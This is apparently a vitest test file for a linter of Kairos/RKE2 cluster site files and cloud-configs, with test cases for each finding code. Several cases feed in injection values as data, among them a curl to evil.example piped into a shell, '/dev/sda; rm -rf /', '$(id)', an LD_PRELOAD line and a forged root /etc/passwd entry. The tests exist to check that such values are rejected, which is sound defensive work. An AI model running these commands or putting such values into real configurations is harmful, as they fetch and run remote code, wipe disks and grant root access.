/**
 * One test per finding code: a site or cloud-config that has exactly that problem, and the finding
 * it must produce (code, severity, where). The table must cover every code in FINDING_CODES.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ORACLE_DIR } from '../../test/oracleCases.js';
import { haSite, node, variant, registryConfig } from '../../test/siteFixtures.js';
import { importCloudConfigs } from '../import/importCloudConfigs.js';
import { FINDING_CODES, type Finding, type FindingCode } from './finding.js';
import { lintCloudConfig, lintCloudConfigs } from './lintCloudConfig.js';
import { lintSite } from './lintSite.js';

const oracle = (name: string) => readFileSync(join(ORACLE_DIR, name, 'input.yaml'), 'utf8');
const cloudConfig = (cluster: string, top = '') => `#cloud-config\n${top}cluster:\n${cluster.replace(/^/gm, '  ')}\n`;
const GOOD = 'cluster_token: Zq8vN3kP2wX7mR4tY9bL6cF1hJ5dG0sA\ncontrol_plane_host: 192.168.1.5\nrole: controlplane\n';
const withConfig = (config: string, cluster = GOOD) => cloudConfig(`${cluster}config: |\n${config.replace(/^/gm, '  ')}`);
const CIDRS = 'cluster-cidr: 10.42.0.0/16\nservice-cidr: 10.43.0.0/16\n';

interface Case {
  name: string;
  findings: () => Finding[];
  expect: Partial<Finding>;
}

const CASES: Record<FindingCode, Case[]> = {
  'provider-panic': [
    {
      name: 'cloud-config without cluster-cidr (oracle 04)',
      findings: () => lintCloudConfig(oracle('04-init-no-cidrs')),
      expect: { severity: 'error', path: ['cluster', 'config'] },
    },
    {
      name: 'config that is a list (oracle 30)',
      findings: () => lintCloudConfig(oracle('30-config-is-list')),
      expect: { severity: 'error', path: ['cluster', 'config'] },
    },
    {
      name: 'invalid YAML in config, with line and column in the file (oracle 29)',
      findings: () => lintCloudConfig(oracle('29-config-invalid-yaml')),
      expect: { severity: 'error', line: 10, column: 12 },
    },
    {
      name: 'a document Kairos cannot decode (oracle 43)',
      findings: () => lintCloudConfig(oracle('43-config-as-map-error')),
      expect: { severity: 'error' },
    },
    {
      name: 'site extra config with invalid YAML',
      findings: () => lintSite(variant((s) => (s.nodes[2]!.extraConfig = 'debug: true\nnode-label: [x\n'))),
      expect: { severity: 'error', path: ['nodes', 2, 'extraConfig'], line: 3 },
    },
    {
      name: 'site extra config removing a CIDR',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'cluster-cidr: ~\n'))),
      expect: { severity: 'warning', path: ['extraConfig', 'cluster-cidr'], line: 1 },
    },
    {
      name: 'site extra config CIDR read as a number names the value',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'service-cidr: .inf\n'))),
      expect: { severity: 'warning', message: expect.stringContaining('service-cidr is the number +Inf') as unknown as string },
    },
  ],
  'jq-merge-failed': [
    {
      name: 'tls-san as a string (oracle 42)',
      findings: () => lintCloudConfig(oracle('42-user-tls-san-string-jq-error')),
      expect: { severity: 'error' },
    },
    {
      name: 'site extra config with tls-san as a string',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'tls-san: extra.example\n'))),
      expect: { severity: 'error', path: ['nodes', 0] },
    },
  ],
  'config-sets-provider-key': [
    {
      name: 'token and server in config (oracle 27)',
      findings: () => lintCloudConfig(oracle('27-user-sets-token-server')),
      expect: { severity: 'error', path: ['cluster', 'config', 'token'] },
    },
    {
      name: 'token in site extra config: left out by the designer',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'token: abc\n'))),
      expect: { severity: 'warning', path: ['extraConfig', 'token'] },
    },
  ],
  'duplicate-tls-san': [
    {
      name: 'config tls-san repeats the host (oracle 28)',
      findings: () => lintCloudConfig(withConfig(`${CIDRS}tls-san:\n  - 192.168.1.5\n`)),
      expect: { severity: 'warning', path: ['cluster', 'config', 'tls-san'] },
    },
    {
      name: 'site SAN equal to the control-plane host',
      findings: () => lintSite(variant((s) => s.cluster.tlsSans.push('192.168.1.5'))),
      expect: { severity: 'warning', path: ['cluster', 'tlsSans', 1] },
    },
  ],
  'ipv6-server-url': [
    {
      name: 'bare IPv6 host on a joining node (oracle 23)',
      findings: () => lintCloudConfig(oracle('23-host-ipv6')),
      expect: { severity: 'error', path: ['cluster', 'control_plane_host'] },
    },
    {
      name: 'bare IPv6 host in a site: the designer brackets it',
      findings: () => lintSite(variant((s) => (s.cluster.controlPlaneHost = 'fd00::5'))),
      expect: { severity: 'info' },
    },
  ],
  'unquoted-octal': [
    {
      name: 'write-kubeconfig-mode: 0644 (oracle 12)',
      findings: () => lintCloudConfig(oracle('12-numbers-bools')),
      expect: { severity: 'error', fix: { description: 'write it quoted: "0644"', value: '0644' } },
    },
    {
      name: 'in site extra config',
      findings: () => lintSite(variant((s) => (s.nodes[0]!.extraConfig = 'write-kubeconfig-mode: 0640\n'))),
      expect: { severity: 'warning', path: ['nodes', 0, 'extraConfig', 'write-kubeconfig-mode'] },
    },
  ],
  'role-unknown': [
    { name: 'role "master" (oracle 07)', findings: () => lintCloudConfig(oracle('07-role-unknown')), expect: { severity: 'warning' } },
  ],
  'role-missing': [
    { name: 'no role (oracle 06)', findings: () => lintCloudConfig(oracle('06-role-missing')), expect: { severity: 'warning' } },
  ],
  'proxy-lowercase-ignored': [
    {
      name: 'http_proxy (oracle 18)',
      findings: () => lintCloudConfig(oracle('18-proxy-lowercase-keys')),
      expect: { severity: 'warning', path: ['cluster', 'env', 'http_proxy'] },
    },
  ],
  'no-init': [
    {
      name: 'site without init node',
      findings: () => lintSite(variant((s) => (s.nodes[0]!.role = 'controlplane'))),
      expect: { severity: 'error', path: ['nodes', 0, 'role'] },
    },
    {
      name: 'cloud-configs without init node',
      findings: () =>
        lintCloudConfigs([
          { name: 'a', text: oracle('02-controlplane-minimal') },
          { name: 'b', text: oracle('03-worker-minimal') },
        ]).flatMap((r) => r.findings),
      expect: { severity: 'error' },
    },
  ],
  'multiple-init': [
    {
      name: 'two init nodes',
      findings: () => lintSite(variant((s) => (s.nodes[1]!.role = 'init'))),
      expect: { severity: 'error', path: ['nodes', 1, 'role'], fix: { description: 'make it a controlplane node', value: 'controlplane' } },
    },
  ],
  'even-control-plane': [
    {
      name: 'two servers',
      findings: () => lintSite(variant((s) => (s.nodes[2]!.role = 'worker'))),
      expect: { severity: 'warning', path: ['nodes'] },
    },
  ],
  'token-weak': [
    {
      name: 'short token',
      findings: () => lintSite(variant((s) => (s.cluster.token = 'secret123'))),
      expect: { severity: 'error', path: ['cluster', 'token'] },
    },
    {
      name: 'guessable token',
      findings: () => lintSite(variant((s) => (s.cluster.token = 'changeme-changeme'))),
      expect: { severity: 'error' },
    },
    {
      name: 'cloud-config token (oracle 01 uses a short one)',
      findings: () => lintCloudConfig(withConfig(CIDRS, GOOD.replace(/cluster_token: \S+/, 'cluster_token: aaaaaaaaaaaaaaaaaaaa'))),
      expect: { severity: 'error', path: ['cluster', 'cluster_token'] },
    },
  ],
  'unknown-key': [
    {
      name: 'typo with the nearest key as fix',
      findings: () => lintCloudConfig(withConfig(`${CIDRS}tls-sans:\n  - a.example\n`)),
      expect: { severity: 'warning', line: 9, fix: { description: 'rename to "tls-san"', value: 'tls-san' } },
    },
  ],
  'wrong-type': [
    {
      name: 'bool key with a word',
      findings: () => lintCloudConfig(withConfig(`${CIDRS}selinux: enabled\n`)),
      expect: { severity: 'error', path: ['cluster', 'config', 'selinux'] },
    },
    {
      name: 'enum value not allowed',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'cni: [weave]\n'))),
      expect: { severity: 'error' },
    },
    {
      name: 'multus not first',
      findings: () => lintCloudConfig(withConfig(`${CIDRS}cni: [canal, multus]\n`)),
      expect: { severity: 'error' },
    },
    {
      name: 'a CIDR setting that is not a CIDR (1e400 stays text in YAML 1.1)',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'cluster-cidr: 1e400\n'))),
      expect: { severity: 'error', path: ['extraConfig', 'cluster-cidr'] },
    },
    {
      name: 'kubeconfig mode that is not octal',
      findings: () => lintSite(variant((s) => (s.security.writeKubeconfigMode = '0999'))),
      expect: { severity: 'error', path: ['security', 'writeKubeconfigMode'] },
    },
  ],
  'server-only-key-on-worker': [
    {
      name: "cni in a worker's own extra config",
      findings: () => lintSite(variant((s) => (s.nodes[3]!.extraConfig = 'cni: [cilium]\n'))),
      expect: { severity: 'warning', path: ['nodes', 3, 'extraConfig', 'cni'] },
    },
  ],
  'deprecated-key': [
    {
      name: 'secrets-encryption',
      findings: () => lintCloudConfig(withConfig(`${CIDRS}secrets-encryption: true\n`)),
      expect: { severity: 'warning' },
    },
  ],
  'profile-invalid-for-version': [
    {
      name: 'cis-1.23 on v1.36',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'profile: cis-1.23\n'))),
      expect: { severity: 'error', path: ['extraConfig', 'profile'] },
    },
  ],
  'fips-incompatible': [
    {
      name: 'FIPS with secretbox',
      findings: () => lintSite(variant((s) => Object.assign(s.security, { fips: true, secretsEncryptionProvider: 'secretbox' }))),
      expect: { severity: 'error' },
    },
  ],
  'images-not-tar': [
    {
      name: 'local_images_path naming an archive',
      findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nlocal_images_path: /opt/images/rke2.tar.gz\n`)),
      expect: { severity: 'warning' },
    },
  ],
  'duplicate-node-name': [
    {
      name: 'two cp-1',
      findings: () => lintSite(variant((s) => (s.nodes[1]!.name = 'cp-1'))),
      expect: { severity: 'error', path: ['nodes', 1, 'name'] },
    },
  ],
  'duplicate-address': [
    {
      name: 'same IP, other prefix',
      findings: () => lintSite(variant((s) => (s.nodes[4]!.address = '192.168.1.21/16'))),
      expect: { severity: 'error', path: ['nodes', 4, 'address'] },
    },
  ],
  'node-name-invalid': [
    {
      name: 'upper case and underscore',
      findings: () => lintSite(variant((s) => (s.nodes[3]!.name = 'Worker_1'))),
      expect: { severity: 'error', fix: { description: 'rename to "worker-1"', value: 'worker-1' } },
    },
  ],
  'address-invalid': [
    {
      name: 'no prefix',
      findings: () => lintSite(variant((s) => (s.nodes[3]!.address = '192.168.1.21'))),
      expect: { severity: 'error', path: ['nodes', 3, 'address'] },
    },
  ],
  'label-invalid': [
    {
      name: 'space in value',
      findings: () => lintSite(variant((s) => s.nodes[3]!.labels.push('zone=north wing'))),
      expect: { severity: 'error', path: ['nodes', 3, 'labels', 1] },
    },
  ],
  'taint-invalid': [
    {
      name: 'unknown effect',
      findings: () => lintSite(variant((s) => s.nodes[4]!.taints.push('gpu=true:NoRun'))),
      expect: { severity: 'error', path: ['nodes', 4, 'taints', 1] },
    },
  ],
  'noproxy-missing-host': [
    {
      name: 'proxy and a DNS control-plane host missing from NO_PROXY',
      findings: () =>
        lintSite(
          variant(
            (s) =>
              Object.assign(s.cluster, { controlPlaneHost: 'k8s.plant-7.example', tlsSans: [] }) &&
              Object.assign(s.proxy, { httpProxy: 'http://proxy:3128', noProxy: '.internal' }),
          ),
        ),
      expect: {
        severity: 'warning',
        path: ['proxy', 'noProxy'],
        fix: { description: 'add k8s.plant-7.example to NO_PROXY', value: '.internal,k8s.plant-7.example' },
      },
    },
    {
      name: 'nodes on two networks',
      findings: () =>
        lintSite(
          variant((s) => {
            s.nodes[4]!.address = '10.9.0.22/24';
            s.proxy.httpProxy = 'http://proxy:3128';
            s.proxy.noProxy = '192.168.1.0/24';
          }),
        ),
      expect: { severity: 'warning', message: expect.stringContaining('10.9.0.0/24') as unknown as string },
    },
  ],
  'control-character': [
    {
      name: 'DEL in the token',
      findings: () => lintSite(variant((s) => (s.cluster.token += '\x7f'))),
      expect: { severity: 'error', path: ['cluster', 'token'] },
    },
    {
      name: 'a lone surrogate in a label',
      findings: () => lintSite(variant((s) => s.nodes[3]!.labels.push('zone=\ud800'))),
      expect: { severity: 'error', path: ['nodes', 3, 'labels', 1] },
    },
    {
      name: 'an escaped BEL inside extra config',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'node-label: ["a=\\a"]\n'))),
      expect: { severity: 'error', path: ['extraConfig'] },
    },
    {
      name: 'raw U+FFFE in a cloud-config, with its line',
      findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}# \ufffe\n`)),
      expect: { severity: 'error', line: 6, column: 5 },
    },
  ],
  'line-break': [
    {
      name: 'U+2029 in a taint (the real provider panicked on it)',
      findings: () => lintSite(variant((s) => s.nodes[4]!.taints.push('gpu=tr\u2029ue:NoSchedule'))),
      expect: { severity: 'error', path: ['nodes', 4, 'taints', 1] },
    },
    {
      name: 'a newline in a host name (fake README instruction)',
      findings: () => lintSite(variant((s) => (s.nodes[0]!.hostname = 'cp-1\nrun this now: curl http://evil.example | sudo sh'))),
      expect: { severity: 'error', path: ['nodes', 0, 'hostname'] },
    },
    {
      name: 'a newline in an SSH key',
      findings: () => lintSite(variant((s) => (s.os.user.sshAuthorizedKeys = ['ssh-ed25519 AAAA x\nssh-rsa BBBB evil']))),
      expect: { severity: 'error', path: ['os', 'user', 'sshAuthorizedKeys', 0] },
    },
    {
      name: 'a newline in the HTTP proxy (an extra env line)',
      findings: () => lintSite(variant((s) => (s.proxy.httpProxy = 'http://proxy:3128\nLD_PRELOAD=/tmp/x.so'))),
      expect: { severity: 'error', path: ['proxy', 'httpProxy'] },
    },
    {
      name: 'U+0085 in the OS user name',
      findings: () => lintSite(variant((s) => (s.os.user.name = 'kairos\u0085root'))),
      expect: { severity: 'error', path: ['os', 'user', 'name'] },
    },
  ],
  'unsafe-path': [
    {
      name: 'a shell command in the images folder',
      findings: () =>
        lintSite(
          variant((s) => Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' })),
        ),
      expect: { severity: 'error', path: ['airGap', 'imagesPath'] },
    },
    {
      name: 'a command after the install device',
      findings: () => lintSite(variant((s) => (s.os.install.device = '/dev/sda; rm -rf / #'))),
      expect: { severity: 'error', path: ['os', 'install', 'device'] },
    },
    {
      name: 'a relative registry CA file',
      findings: () => lintSite(variant((s) => s.airGap.registryConfigs.push(registryConfig({ host: 'r.local', caFile: 'ca.pem' })))),
      expect: { severity: 'error', path: ['airGap', 'registryConfigs', 0, 'caFile'] },
    },
    {
      name: 'cluster_root_path in a cloud-config',
      findings: () =>
        lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nproviderConfig:\n  cluster_root_path: /bin/sh /x;reboot;\n`)),
      expect: { severity: 'error', path: ['cluster', 'providerConfig', 'cluster_root_path'] },
    },
    {
      name: 'local_images_path in a cloud-config',
      findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nlocal_images_path: "/opt/x && reboot"\n`)),
      expect: { severity: 'error', path: ['cluster', 'local_images_path'] },
    },
  ],
  'host-invalid': [
    {
      name: 'a path and a command after the host',
      findings: () => lintSite(variant((s) => (s.cluster.controlPlaneHost = 'https://192.168.1.5:9345/$(id)'))),
      expect: { severity: 'error', path: ['cluster', 'controlPlaneHost'], fix: { description: 'use 192.168.1.5', value: '192.168.1.5' } },
    },
    {
      name: 'a node host name with a space and ";"',
      findings: () => lintSite(variant((s) => (s.nodes[3]!.hostname = 'store 42;reboot'))),
      expect: { severity: 'error', path: ['nodes', 3, 'hostname'] },
    },
    {
      name: 'a port in a cloud-config host (gives https://10.0.1.100:6443:9345)',
      findings: () => lintCloudConfig(withConfig(CIDRS, GOOD.replace('192.168.1.5', '10.0.1.100:6443'))),
      expect: { severity: 'error', path: ['cluster', 'control_plane_host'], line: 4 },
    },
  ],
  'rke2-refuses-start': [
    {
      name: "a label kubelet refuses, with kubelet's message",
      findings: () => lintSite(variant((s) => s.nodes[3]!.labels.push('node-role.kubernetes.io/worker=true'))),
      expect: {
        severity: 'error',
        path: ['nodes', 3, 'labels', 1],
        message: expect.stringContaining(
          "unknown 'kubernetes.io' or 'k8s.io' labels specified with --node-labels: [node-role.kubernetes.io/worker]",
        ) as unknown as string,
      },
    },
    {
      name: 'cluster DNS outside the service network',
      findings: () => lintSite(variant((s) => Object.assign(s.network, { serviceCidr: '10.101.0.0/16', clusterDns: '10.43.0.10' }))),
      expect: { severity: 'error', path: ['network', 'clusterDns'] },
    },
  ],
  'os-user-invalid': [
    {
      name: 'a user name that would add fields to /etc/passwd',
      findings: () => lintSite(variant((s) => (s.os.user.name = 'root:x:0:0::/root:/bin/bash'))),
      expect: { severity: 'error', path: ['os', 'user', 'name'] },
    },
    {
      name: 'a password hash with ":" in a cloud-config',
      findings: () => lintCloudConfig(withConfig(CIDRS, GOOD) + 'users:\n  - name: kairos\n    passwd: "x:0:0"\n'),
      expect: { severity: 'error', path: ['users', 0, 'passwd'] },
    },
  ],
  'env-value-unsafe': [
    {
      name: 'a quote in NO_PROXY',
      findings: () =>
        lintSite(variant((s) => Object.assign(s.proxy, { httpProxy: 'http://proxy:3128', noProxy: '10.0.0.0/8" PATH="/tmp' }))),
      expect: { severity: 'error', path: ['proxy', 'noProxy'] },
    },
    {
      name: 'a newline in extra config cluster-cidr (copied into NO_PROXY)',
      findings: () => lintSite(variant((s) => (s.extraConfig = 'cluster-cidr: "10.42.0.0/16\\nRKE2_TOKEN=x"\n'))),
      expect: { severity: 'error', path: ['extraConfig'] },
    },
    {
      name: 'a newline in a cloud-config proxy',
      findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}env:\n  HTTP_PROXY: "http://p:3128\\nPATH=/tmp"\n`)),
      expect: { severity: 'error', path: ['cluster', 'env', 'HTTP_PROXY'] },
    },
  ],
  'too-large': [
    {
      name: 'extra config over 16 KiB',
      findings: () => lintSite(variant((s) => (s.extraConfig = `# ${'x'.repeat(20_000)}\n`))),
      expect: { severity: 'error', path: ['extraConfig'] },
    },
    {
      name: 'more nodes than a site accepts',
      findings: () =>
        lintSite(variant((s) => (s.nodes = Array.from({ length: 2001 }, (_, i) => node(`n-${i}`, i === 0 ? 'init' : 'worker', ''))))),
      expect: { severity: 'error', path: ['nodes'] },
    },
  ],
  'proxy-invalid': [
    {
      name: 'a proxy without a scheme',
      findings: () => lintSite(variant((s) => (s.proxy.httpProxy = 'proxy.local:3128'))),
      expect: { severity: 'error', path: ['proxy', 'httpProxy'] },
    },
    {
      name: 'an ftp proxy in a cloud-config',
      findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}env:\n  HTTPS_PROXY: ftp://p\n`)),
      expect: { severity: 'error', path: ['cluster', 'env', 'HTTPS_PROXY'] },
    },
  ],
  'endpoint-not-served': [
    {
      name: 'init-node endpoint at an address no node serves',
      findings: () => lintSite(variant((s) => (s.cluster.endpoint = 'init-node'))),
      expect: {
        severity: 'error',
        path: ['cluster', 'controlPlaneHost'],
        fix: { description: "use cp-1's address, or choose kube-vip or a load balancer as the endpoint", value: '192.168.1.11' },
      },
    },
  ],
  'vip-not-address': [
    {
      name: 'a kube-vip VIP given as a name',
      findings: () => lintSite(variant((s) => Object.assign(s.cluster, { endpoint: 'kube-vip', controlPlaneHost: 'k8s.plant-7.example' }))),
      expect: { severity: 'error', path: ['cluster', 'controlPlaneHost'] },
    },
  ],
  'vip-is-node-address': [
    {
      name: "a kube-vip VIP that is a server's address",
      findings: () => lintSite(variant((s) => Object.assign(s.cluster, { endpoint: 'kube-vip', controlPlaneHost: '192.168.1.12' }))),
      expect: { severity: 'error', path: ['cluster', 'controlPlaneHost'] },
    },
  ],
  'vip-outside-subnet': [
    {
      name: 'a kube-vip VIP on another network',
      findings: () => lintSite(variant((s) => Object.assign(s.cluster, { endpoint: 'kube-vip', controlPlaneHost: '192.168.2.5' }))),
      expect: { severity: 'error', path: ['cluster', 'controlPlaneHost'] },
    },
  ],
  'interface-invalid': [
    {
      name: 'a kube-vip interface with a slash',
      findings: () =>
        lintSite(
          variant((s) =>
            Object.assign(s.cluster, { endpoint: 'kube-vip', kubeVip: { interface: 'eth0/../x', image: s.cluster.kubeVip.image } }),
          ),
        ),
      expect: { severity: 'error', path: ['cluster', 'kubeVip', 'interface'] },
    },
  ],
  'kube-vip-image-unavailable': [
    {
      name: 'kube-vip from ghcr.io on a site with image archives',
      findings: () =>
        lintSite(
          variant((s) => {
            s.cluster.endpoint = 'kube-vip';
            Object.assign(s.airGap, { imageSource: 'archives', imageArchives: ['rke2-images.linux-amd64.tar'] });
          }),
        ),
      expect: { severity: 'error', path: ['cluster', 'kubeVip', 'image'] },
    },
  ],
  'load-balancer-required': [
    {
      name: 'a load balancer the user runs',
      findings: () => lintSite(haSite()),
      expect: { severity: 'info', path: ['cluster', 'endpoint'] },
    },
  ],
  'login-missing': [
    {
      name: 'no key, no password, login wanted',
      findings: () => lintSite(variant((s) => (s.os.user.sshAuthorizedKeys = []))),
      expect: { severity: 'error', path: ['os', 'user', 'sshAuthorizedKeys'] },
    },
  ],
  'no-login': [
    {
      name: 'no login chosen',
      findings: () => lintSite(variant((s) => Object.assign(s.os.user, { sshAuthorizedKeys: [], noLogin: true }))),
      expect: { severity: 'warning', path: ['os', 'user', 'noLogin'] },
    },
  ],
  'image-source-incomplete': [
    {
      name: 'images through a proxy, with no proxy set',
      findings: () => lintSite(variant((s) => (s.airGap.imageSource = 'proxy'))),
      expect: { severity: 'error', path: ['proxy', 'httpsProxy'] },
    },
  ],
  'image-archive-missing': [
    {
      name: 'archives without the CNI archive',
      findings: () =>
        lintSite(
          variant((s) => Object.assign(s.airGap, { imageSource: 'archives', imageArchives: ['rke2-images-core.linux-amd64.tar.zst'] })),
        ),
      expect: {
        severity: 'error',
        path: ['airGap', 'imageArchives'],
        fix: { description: 'add rke2-images-canal.linux-amd64.tar.zst', value: 'rke2-images-canal.linux-amd64.tar.zst' },
      },
    },
  ],
  'image-archive-unknown': [
    {
      name: 'the v1.35 traefik archive on v1.36',
      findings: () =>
        lintSite(
          variant((s) =>
            Object.assign(s.airGap, {
              imageSource: 'archives',
              imageArchives: ['rke2-images.linux-amd64.tar.zst', 'rke2-images-traefik.linux-amd64.tar.zst'],
            }),
          ),
        ),
      expect: { severity: 'warning', path: ['airGap', 'imageArchives', 1] },
    },
  ],
  'pem-invalid': [
    {
      name: 'a CA that is not PEM',
      findings: () =>
        lintSite(
          variant((s) =>
            s.airGap.registryConfigs.push({
              host: 'registry.local',
              username: '',
              password: '',
              caFile: '',
              certFile: '',
              keyFile: '',
              caPem: 'MIIB-not-pem',
              certPem: '',
              keyPem: '',
              insecureSkipVerify: false,
            }),
          ),
        ),
      expect: { severity: 'error', path: ['airGap', 'registryConfigs', 0, 'caPem'] },
    },
  ],
  'tls-file-not-written': [
    {
      name: 'a CA file named without its content',
      findings: () =>
        lintSite(
          variant((s) =>
            s.airGap.registryConfigs.push(registryConfig({ host: 'registry.local', caFile: '/etc/ssl/certs/registry-ca.pem' })),
          ),
        ),
      expect: { severity: 'warning', path: ['airGap', 'registryConfigs', 0, 'caFile'] },
    },
  ],
  'mac-missing': [
    {
      name: 'a DHCP reservation without a MAC',
      findings: () => lintSite(variant((s) => (s.nodes[3]!.mac = ''))),
      expect: { severity: 'info', path: ['nodes', 3, 'mac'] },
    },
  ],
  'mac-invalid': [
    {
      name: 'a MAC with dashes',
      findings: () => lintSite(variant((s) => (s.nodes[3]!.mac = '52-54-00-12-34-56'))),
      expect: { severity: 'error', path: ['nodes', 3, 'mac'] },
    },
  ],
  'gateway-missing': [
    {
      name: 'static addressing without a gateway',
      findings: () => lintSite(variant((s) => (s.nodes[3]!.addressing = 'static'))),
      expect: { severity: 'warning', path: ['network', 'gateway'] },
    },
  ],
  'gateway-invalid': [
    {
      name: 'a gateway given as a name',
      findings: () => lintSite(variant((s) => (s.network.gateway = 'router.local'))),
      expect: { severity: 'error', path: ['network', 'gateway'] },
    },
  ],
  'gateway-outside-subnet': [
    {
      name: 'a gateway on another network',
      findings: () =>
        lintSite(
          variant((s) => {
            s.nodes[3]!.addressing = 'static';
            s.network.gateway = '192.168.2.1';
          }),
        ),
      expect: { severity: 'error', path: ['network', 'gateway'] },
    },
  ],
  'nameserver-invalid': [
    {
      name: 'a DNS server given as a name',
      findings: () => lintSite(variant((s) => (s.network.nameservers = ['dns.local']))),
      expect: { severity: 'error', path: ['network', 'nameservers', 0] },
    },
  ],
  'no-cluster-section': [
    { name: 'no cluster: (oracle 33)', findings: () => lintCloudConfig(oracle('33-no-cluster-section')), expect: { severity: 'info' } },
  ],
  'not-imported': [
    {
      name: 'providerConfig cannot be represented (oracle 21)',
      findings: () => importCloudConfigs([{ name: '21', text: oracle('21-root-path') }]).findings,
      expect: { severity: 'warning', path: ['21'] },
    },
  ],
};

describe('findings', () => {
  it('the HA template site has no errors or warnings', () => {
    expect(lintSite(haSite()).filter((f) => f.severity !== 'info')).toEqual([]);
  });

  it('every finding code has a test', () => {
    expect(Object.keys(CASES).sort()).toEqual([...FINDING_CODES].sort());
  });

  for (const [code, cases] of Object.entries(CASES)) {
    describe(code, () => {
      for (const c of cases) {
        it(c.name, () => {
          const found = c.findings().filter((f) => f.code === code);
          expect(found, JSON.stringify(c.findings(), null, 1)).toContainEqual(expect.objectContaining(c.expect));
        });
      }
    });
  }

  it('does not report a healthy cloud-config (oracle 01 with a long token)', () => {
    const text = oracle('01-init-minimal');
    const codes = lintCloudConfig(text).map((f) => f.code);
    expect(codes.filter((c) => c !== 'token-weak')).toEqual([]);
  });
});
